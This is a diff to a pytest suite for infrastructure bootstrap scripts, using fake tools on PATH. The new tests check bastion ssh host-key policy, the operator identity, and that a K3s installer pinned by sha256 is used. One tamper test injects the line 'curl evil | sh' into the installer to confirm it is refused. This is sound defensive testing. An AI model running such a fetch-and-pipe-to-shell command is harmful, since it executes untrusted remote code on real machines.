@@ -3,6 +3,7 @@ executables placed first on PATH, which record their calls."""
 
 from __future__ import annotations
 
+import hashlib
 import json
 import os
 import re
@@ -16,7 +17,9 @@ import pytest
 
 from tests.infra.conftest import K3S_VERSION, REPO, run
 
-FAKE_TOOLS = ["terraform", "ssh", "kubectl", "helm", "ngrok", "uv"]
+FAKE_TOOLS = ["terraform", "ssh", "kubectl", "helm", "ngrok", "uv", "curl"]
+# What the fake curl serves as the K3s installer, and the pin the tests give the scripts.
+FAKE_INSTALLER = b"#!/bin/sh\n# stand-in for the K3s installer\necho installed\n"
 # What the recipes and scripts need from the system besides the faked tools.
 SYSTEM_TOOLS = [
     "bash",
@@ -42,6 +45,8 @@ SYSTEM_TOOLS = [
     "make",
     "test",
     "printf",
+    "sha256sum",
+    "mv",
 ]
 GUIDE_TARGETS = [
     "ca4-apply",
@@ -121,11 +126,25 @@ class Sandbox:
             (self.bin / tool).symlink_to(found)
         self.pubkey = root / "id_ed25519.pub"
         self.pubkey.write_text("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForTests ca4@test\n")
+        self.identity = root / "id_ed25519"
+        self.identity.write_text("not a real key: the fake ssh only checks that it is offered\n")
+        self.downloads = root / "downloads"
+        self.downloads.mkdir()
+        (self.downloads / "install.sh").write_bytes(FAKE_INSTALLER)
+        self.state_dir = root / "ca4-state"
+        real_ssh = shutil.which("ssh")
+        if real_ssh is None:
+            pytest.fail("ssh is missing: the fake ssh resolves options with the real `ssh -G`")
         self.env = {
             "PATH": str(self.bin),
             "HOME": str(self.home),
             "CA4_FAKE_LOG": str(self.log),
             "CA4_FAKE_STATE": str(self.state),
+            "CA4_FAKE_DOWNLOADS": str(self.downloads),
+            "CA4_REAL_SSH": real_ssh,
+            "CA4_STATE_DIR": str(self.state_dir),
+            "CA4_SSH_IDENTITY": str(self.identity),
+            "CA4_K3S_INSTALLER_SHA256": hashlib.sha256(FAKE_INSTALLER).hexdigest(),
             "AWS_PROFILE": "ca4-test",
             "CA4_TF_STATE_BUCKET": "ca4-tfstate-test",
             "CA4_OPERATOR_CIDR": "198.51.100.7/32",
@@ -210,13 +229,10 @@ def test_guide_sequence(sandbox: Sandbox) -> None:
     # 2. ssh: first server installed before any agent, every ssh through the bastion
     ssh_calls = [c for c in calls if c["tool"] == "ssh"]
     assert ssh_calls
-    assert all(
-        c["argv"][c["argv"].index("-J") : c["argv"].index("-J") + 2]
-        == ["-J", "ubuntu@203.0.113.10"]
-        for c in ssh_calls
-    )
+    assert all(c["policy"]["target"]["proxyjump"] == ["ubuntu@203.0.113.10"] for c in ssh_calls)
+    assert all(c["policy"]["hop"] for c in ssh_calls)
     installs = [c for c in ssh_calls if "INSTALL_K3S_VERSION" in " ".join(c["argv"])]
-    assert [c["argv"][c["argv"].index("-J") + 2] for c in installs] == [
+    assert [c["argv"][c["argv"].index("-F") + 2] for c in installs] == [
         "ubuntu@10.40.10.11",
         "ubuntu@10.40.11.21",
         "ubuntu@10.40.10.22",
@@ -261,6 +277,67 @@ def test_bootstrap_is_idempotent(sandbox: Sandbox) -> None:
     assert "kubeconfig" in second.stderr
     assert "unchanged" in second.stderr
     assert kubeconfig.stat().st_mtime_ns == first_mtime
+
+
+def ssh_calls_through_the_bastion(sandbox: Sandbox) -> list[dict[str, Any]]:
+    """The recorded ssh calls that hop through the bastion, each with its resolved policy."""
+    calls = [c for c in sandbox.calls() if c["tool"] == "ssh" and "hop" in c["policy"]]
+    assert calls, "no ssh call went through the bastion"
+    return calls
+
+
+def test_bootstrap_hop_never_prompts_for_a_host_key(sandbox: Sandbox) -> None:
+    """The ProxyJump hop gets the target's host-key policy and project-local known_hosts: options
+    on the ssh command line never reach the hop, so on a first run the bastion's prompt hung."""
+    result = sandbox.make("ca4-bootstrap-k3s")
+    assert result.returncode == 0, result.stderr
+    known_hosts = str(sandbox.state_dir / "known_hosts")
+    for call in ssh_calls_through_the_bastion(sandbox):
+        for side in ("hop", "target"):
+            policy = call["policy"][side]
+            assert policy["stricthostkeychecking"] == ["accept-new"], (side, call["argv"])
+            assert policy["batchmode"] == ["yes"], (side, call["argv"])
+            assert policy["userknownhostsfile"] == [known_hosts], (side, call["argv"])
+
+
+def test_bootstrap_hop_uses_the_operator_identity(sandbox: Sandbox) -> None:
+    """A key given only through CA4_SSH_IDENTITY is offered to the bastion hop as well."""
+    result = sandbox.make("ca4-bootstrap-k3s")
+    assert result.returncode == 0, result.stderr
+    for call in ssh_calls_through_the_bastion(sandbox):
+        for side in ("hop", "target"):
+            assert str(sandbox.identity) in call["policy"][side]["identityfile"], side
+
+
+def test_bootstrap_runs_only_the_pinned_installer(sandbox: Sandbox) -> None:
+    """The installer is fetched at the pinned release, checked against its sha256 and fed to the
+    node's shell; nothing is piped from the internet on the node."""
+    result = sandbox.make("ca4-bootstrap-k3s")
+    assert result.returncode == 0, result.stderr
+    fetches = [c["argv"] for c in sandbox.calls() if c["tool"] == "curl"]
+    assert fetches == [
+        [*fetches[0][:-1], f"https://raw.githubusercontent.com/k3s-io/k3s/{K3S_VERSION}/install.sh"]
+    ]
+    installs = [
+        c
+        for c in sandbox.calls()
+        if c["tool"] == "ssh" and "INSTALL_K3S_VERSION" in " ".join(c["argv"])
+    ]
+    assert len(installs) == 3
+    for call in installs:
+        remote = " ".join(call["argv"])
+        assert "curl" not in remote, remote
+        assert "get.k3s.io" not in remote, remote
+        assert call["stdin"] == FAKE_INSTALLER.decode()
+
+
+def test_bootstrap_refuses_a_tampered_installer(sandbox: Sandbox) -> None:
+    (sandbox.downloads / "install.sh").write_bytes(FAKE_INSTALLER + b"curl evil | sh\n")
+    result = sandbox.make("ca4-bootstrap-k3s")
+    assert result.returncode != 0
+    assert "does not match its pinned sha256" in result.stderr
+    installs = [c for c in sandbox.calls() if "INSTALL_K3S_VERSION" in " ".join(c["argv"])]
+    assert installs == []
 
 
 def test_helm_targets_are_idempotent_upgrades(sandbox: Sandbox) -> None:
